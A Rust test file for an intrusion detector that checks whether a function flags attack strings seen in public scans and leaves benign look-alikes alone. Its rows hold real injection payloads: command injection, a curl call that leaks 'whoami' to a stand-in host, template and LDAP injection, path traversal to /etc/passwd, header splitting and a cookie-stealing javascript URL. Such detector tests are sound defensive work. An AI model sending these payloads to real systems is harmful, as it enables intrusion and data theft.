//! Do payloads that public checks send earn points, in each place where one of them stood?

use super::everyday::accused;
use crate::read::target::Target;

#[test]
fn payloads_of_public_checks() {
    let rows = [
        // Commands behind an address or nothing, and options.
        (Target::Query, "ip", "127.0.0.1\nid\n"),
        (Target::Json, "ip", "& id"),
        (Target::Query, "ip", "192.0.2.7&id"),
        (Target::Form, "ping", ";i${IFS}d"),
        (Target::Json, "repo", "ssh://-oProxyCommand=curl x.example/y"),
        (Target::Form, "email_address", "a@localhost\t-oQ/tmp/\t-C/var/x/sendmail.cf"),
        (Target::Form, "env", "--split-string=bash -c id"),
        (Target::Query, "name", "x -exec id \\;"),
        (Target::Form, "name", "a.zip -T -TT 'sh #'"),
        (Target::Form, "opts", "-XX:OnOutOfMemoryError='id' -Xmx1m"),
        (Target::Query, "sort", "--use-compress-program=id"),
        (Target::Form, "ttcp_ip", "-h `cd /tmp;netstat -an`"),
        (Target::Json, "dag_run_id", "\"; curl `whoami`.x.example;\""),
        (Target::Json, "ping", "\"; system(\"id\"); #"),
        // What single products take.
        (Target::Query, "Email", "autodiscover/autodiscover.json?@x.example"),
        (Target::Query, "s", "index/\\think\\Request/input"),
        (Target::Query, "greeting", "{{''[request.args.a][request.args.b][2]}}"),
        (Target::Query, "q", "{pboot:if(implode('',['c','a'])('x'))}y{/pboot:if}"),
        (Target::Json, "_template", "../web.xml"),
        (Target::Binary, "", "PK\x03\x04\x14\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x0a\0\0\0../../a/b.x"),
        // Parts of filters of LDAP, and whole ones that are never true.
        (Target::Json, "search", "|(objectClass=user)(sAMAccountName=admin)"),
        (Target::Query, "uid", "*(objectClass=*"),
        (Target::Query, "user", "(&(uid=admin)(!(&(1=0)(userPassword=q))))"),
        // Lines of answers and of mails, in fields of one line.
        (Target::Form, "lang", "en\r\nSet-Cookie: a=b"),
        (Target::Json, "url", "/x\r\nSet-Cookie: a=b"),
        (Target::Form, "to", "name\r\nReply-To:eve@x.example"),
        (Target::Form, "email", "test\nSubject: x"),
        // Templates.
        (Target::Json, "msg", "*{1+1}"),
        (Target::Form, "name", "@{1+1}"),
        (Target::Query, "template", "{7*7|raw}"),
        (Target::Form, "template", "{{7|int*7|int}}"),
        (Target::Query, "name", "{php system('id')}"),
        (Target::Json, "greeting", "${\"\".class}"),
        (Target::Query, "template", "${#ctx.environment}"),
        // Databases of documents.
        (Target::Form, "q", "', $or: [ {}, { 'order':'order"),
        (Target::Query, "id", "0;var date=new Date(); do{cur=new Date();}while(cur-date<10000)"),
        (Target::Query, "q", "a'; return db.a.find(); var x='a"),
        (Target::Query, "category", "fizzy' && 0 && 'x"),
        // Objects, and services of this machine.
        (Target::Json, "propertyName", "script::Runtime r=Runtime.getRuntime();r.exec('id');"),
        (Target::Json, "metadataUrl", "http://127.0.0.1:2375/containers/json"),
        (Target::Json, "class", "\\GuzzleHttp\\Psr7\\FnStream"),
        (Target::Cookie, "_session", "BAhjE0dlbTo6U3BlY0ZldGNoZXI="),
        (Target::Query, "file", "\\\\::1\\c$\\users\\default\\ntuser.dat"),
    ];
    for (target, name, value) in rows {
        assert_ne!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}

#[test]
fn their_likes_of_every_day() {
    let rows = [
        (Target::Json, "text", "salt & pepper"),
        (Target::Json, "list", "name\nid\nemail"),
        (Target::Form, "text", "R & D & id"),
        (Target::Json, "filter", "(&(objectClass=user)(memberOf=cn=staff,dc=x,dc=example))"),
        (Target::Form, "message", "See the answer:\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b"),
        (Target::Form, "message", "hello\nSubject: the meeting"),
        (Target::Query, "range", "{1+1}"),
        (Target::Form, "q", "{{ name|title }} and {{ a|int }}"),
        (Target::Json, "url", "http://localhost:9200/_cluster/health"),
        (Target::Json, "input", "get_weather(city='Oslo')"),
        (Target::Json, "description", "get_weather(city: str) -> dict"),
        (Target::Text, "", "<link href=\"http://x.example/feed\" rel=\"alternate\"/>"),
        (Target::Text, "", "<foreignObject x=\"0\" y=\"0\" width=\"9\" height=\"9\"><p>x</p></foreignObject>"),
        (Target::Text, "", "<use id=\"a\" xlink:href=\"#shade\"/>"),
        (Target::Text, "", "<meta http-equiv=3D\"Content-Type\" content=3D\"text/html\">"),
        (Target::Form, "subject", "Re: Contact | Route 41"),
        (Target::Json, "body", "value = data[request.args.get('id')]"),
        (Target::Json, "body", "use find . -exec cat {} + for that"),
        (Target::Json, "trace", "#0 think\\Request->input()"),
        (Target::Query, "q", "path:/autodiscover/autodiscover.json?"),
        (Target::Json, "body", "- Pa', e' arrivato l'uomo.\n- Digli\n\t-- Groucho"),
        (Target::Form, "msg", "the scheme must be ldap://\n"),
        (Target::Query, "q", "select url, total_count from link_stat where url='https://shop.example/'"),
        (Target::Query, "bdref", "http://x.example//"),
        (Target::Query, "redir", "//ads.example/sync/dsp/video/77"),
        (Target::Query, "redirect_to", "https://x.example/admin/admin-ajax.php?action=vote"),
        (Target::Query, "linkInternalFilters", "javascript:,x.example"),
        (Target::Json, "sources", "../../../../../../src/models/a.ts"),
        (Target::Json, "extraPaths", "../src"),
        (Target::Json, "script", "@echo off\npushd %~dp0\n\nif \"%A%\" == \"\" (\n\tset A=b\n)\n"),
        (
            Target::Text,
            "",
            "<iframe width=\"480\" height=\"360\" src=\"//x.example/embed/a\" frameborder=\"0\"></iframe>",
        ),
        (Target::Text, "", "<use xlink:href=\"/icons.svg#share\"></use>"),
        (Target::Path, "", "/.element/js/app.js"),
        (Target::Path, "", "/bin/query.exe/dn"),
        (Target::Path, "", "/forum/wh=60,60;/sign=1/a.jpg"),
        (Target::Json, "HtmlBody", "{% if (state.state in names) %}on{% endif %}"),
        (Target::Json, "body", "{% if request.user.is_authenticated %}<p>hi</p>{% endif %}"),
    ];
    for (target, name, value) in rows {
        assert_eq!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}

#[test]
fn what_only_looks_like_them() {
    let rows = [
        (Target::Form, "subject", "Contact | sleep 41"),
        (Target::Form, "url", "ldap://x.example/a"),
        (Target::Query, "q", "select password from users where id=1"),
        (Target::Query, "url", "//x.example/"),
        (Target::Query, "theme_dir", "https://x.example/r.inc"),
        (Target::Query, "u", "javascript:alert(1),x.example"),
        (Target::Json, "file", "../../../../../../etc/passwd"),
        (Target::Json, "cmd", "if \"%A%\" == \"\" (cmd)"),
        (Target::Text, "", "<iframe width=\"0\" height=\"0\" src=\"//x.example/embed/a\"></iframe>"),
        (Target::Path, "", "/.tool/settings.json"),
        (Target::Path, "", "/tools/list.exe/dn"),
        (Target::Path, "", "/attachments/2024/05/min.php"),
        (Target::Path, "", "/forum;/a.jpg"),
        (Target::Path, "", "/public;a=b;/admin"),
        (Target::Path, "", "/.tmp/k.php/x.png"),
        (Target::Path, "", "/bin/perl5.exe/xx"),
        (Target::Path, "", "/uploads/2024/05/31/ab/k.php"),
        (Target::Query, "q", "x | bash 1"),
        (Target::Query, "q", "a;rm 1"),
        (Target::Query, "q", "select pin from cards where url='http://x' or 1=1"),
        (Target::Query, "name", "x',role='y' where id='1'--"),
        (Target::Query, "url", "//x.example\\@shop.example/a/b/c"),
        (Target::Query, "redir", "//169.254.169.254/latest/meta-data/iam"),
        (Target::Query, "url", "http://shop.example@x.example//"),
        (Target::Query, "payload[template]", "http://x.example/x.php"),
        (Target::Query, "page", "ftp://x.example/x.gz"),
        (
            Target::Text,
            "",
            "<iframe width=\"480\" height=\"360\" style=\"position:fixed\" src=\"//x.example/a\"></iframe>",
        ),
        (Target::Text, "", "<link rel=\"import\" as=\"x\" href=\"//x.example/x.css.html\">"),
        (Target::Query, "q", "x\" xlink:href=\"//x.example/x.svg#y\" y=\""),
        (Target::Json, "file", "../../../../../../../srv/app/settings.js"),
        (Target::Json, "q", "rem x\n\n\n\nfor /f %i in ('whoami') do echo %i"),
        (Target::Query, "q", "javascript:navigator['x'](document.cookie)"),
    ];
    for (target, name, value) in rows {
        assert_ne!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}
